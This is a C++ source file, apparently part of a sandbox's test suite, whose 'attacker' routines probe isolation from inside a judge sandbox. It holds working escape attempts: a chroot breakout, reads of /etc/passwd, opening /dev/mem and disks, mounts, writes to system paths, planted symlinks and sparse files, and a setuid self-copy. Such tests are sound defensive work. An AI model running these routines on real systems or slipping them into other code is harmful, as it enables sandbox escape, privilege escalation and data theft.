// Against files: those of the host, those of the next run, and those that the judge reads back.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "tests/sandbox/attacker/attacks.h"

namespace attacker {

namespace {

void tell(const std::string& what, long returned) {
  std::printf("%s: %s\n", what.c_str(), returned >= 0 ? "done" : std::strerror(errno));
}

// Every entry of the tree, and for files their content, but for the system's own.
void walk(const std::string& folder) {
  DIR* directory = opendir(folder.c_str());
  if (directory == nullptr) return;
  while (const dirent* entry = readdir(directory)) {
    const std::string name = entry->d_name;
    const std::string path = (folder == "/" ? "" : folder) + "/" + name;
    if (name == "." || name == ".." || path == "/box/attacker") continue;
    std::printf("%s\n", path.c_str());
    struct stat status {};
    if (lstat(path.c_str(), &status) != 0) continue;
    if (S_ISDIR(status.st_mode)) walk(path);
    if (!S_ISREG(status.st_mode)) continue;
    const int file = open(path.c_str(), O_RDONLY);
    char content[4096];
    const ssize_t size = read(file, content, sizeof content);
    if (size > 0) std::fwrite(content, 1, static_cast<std::size_t>(size), stdout);
    close(file);
  }
  closedir(directory);
}

int walk_everything() {
  walk("/");
  for (char** variable = environ; *variable != nullptr; ++variable) std::printf("%s\n", *variable);
  return 0;
}

int list_descriptors() {
  for (int descriptor = 0; descriptor < 4096; ++descriptor) {
    if (fcntl(descriptor, F_GETFD) >= 0) std::printf("%d ", descriptor);
  }
  std::printf("\n");
  return 0;
}

// The classical way out: a directory below a new root is held open from outside of it.
int escape_chroot() {
  mkdir("jail", 0755);
  const int above = open("/", O_RDONLY);
  tell("chroot", chroot("jail"));
  tell("fchdir", fchdir(above));
  for (int i = 0; i < 64; ++i) (void)!chdir("..");
  tell("chroot .", chroot("."));
  tell("open /etc/passwd", open("/etc/passwd", O_RDONLY));
  tell("open /proc/1/root", open("/proc/1/root/etc/passwd", O_RDONLY));
  return 0;
}

int open_devices() {
  tell("mknod", mknod("/box/memory", S_IFCHR | 0666, makedev(1, 1)));
  tell("mount", mount("none", "/box", "tmpfs", 0, nullptr));
  tell("umount", umount2("/tmp", MNT_DETACH));
  for (const char* device :
       {"/dev/kvm", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/tty", "/dev/ptmx", "/dev/fuse"}) {
    tell(device, open(device, O_RDWR));
  }
  for (const char* device : {"/dev/null", "/dev/zero", "/dev/urandom"}) {
    tell(device, open(device, O_RDWR));
  }
  return 0;
}

int write_outside() {
  for (const char* path : {"/new", "/dev/new", "/usr/bin/new", "/etc/new", "/proc/new"}) {
    tell(path, open(path, O_WRONLY | O_CREAT, 0600));
  }
  tell("/usr/bin/true", open("/usr/bin/true", O_WRONLY));
  tell("/box/new", open("/box/new", O_WRONLY | O_CREAT, 0600));
  tell("/tmp/new", open("/tmp/new", O_WRONLY | O_CREAT, 0600));
  return 0;
}

// What the judge will read back as answers.
int plant_outputs() {
  tell("link", symlink("/etc/passwd", "/box/link"));
  tell("fifo", mkfifo("/box/fifo", 0666));
  tell("folder", mkdir("/box/folder", 0777));
  signal(SIGXFSZ, SIG_IGN);  // to be told by an error instead
  const int sparse = open("/box/sparse", O_WRONLY | O_CREAT, 0666);
  tell("sparse", ftruncate(sparse, off_t{1} << 40));
  const int right = open("/box/right", O_WRONLY | O_CREAT, 0600);
  tell("right", write(right, "42\n", 3));
  return 0;
}

// Leaves a mark in every place that it can write to, or tells which marks it finds.
int mark_places() {
  for (const char* path : {"/box/mark", "/tmp/mark", "/dev/shm/mark"}) {
    tell(path, open(path, O_WRONLY | O_CREAT | O_EXCL, 0666));
  }
  return 0;
}

int copy_itself_setuid() {
  const int from = open("/box/attacker", O_RDONLY);
  const int to = open("/box/copy", O_WRONLY | O_CREAT, 0777);
  char block[65536];
  for (ssize_t size; (size = read(from, block, sizeof block)) > 0;) {
    (void)!write(to, block, static_cast<std::size_t>(size));
  }
  close(to);
  tell("chown", chown("/box/copy", 0, 0));
  tell("chmod", chmod("/box/copy", 06777));
  const uid_t before = geteuid();
  std::printf("%s\n", before != 0 ? "not root" : "root");
  execl("/box/copy", "copy", "tell_rights", nullptr);
  return 1;
}

}  // namespace

std::span<const Attack> file_attacks() {
  static constexpr Attack kAttacks[] = {
      {"walk_everything", walk_everything}, {"list_descriptors", list_descriptors},
      {"escape_chroot", escape_chroot},     {"open_devices", open_devices},
      {"write_outside", write_outside},     {"plant_outputs", plant_outputs},
      {"mark_places", mark_places},         {"copy_itself_setuid", copy_itself_setuid},
  };
  return kAttacks;
}

}  // namespace attacker
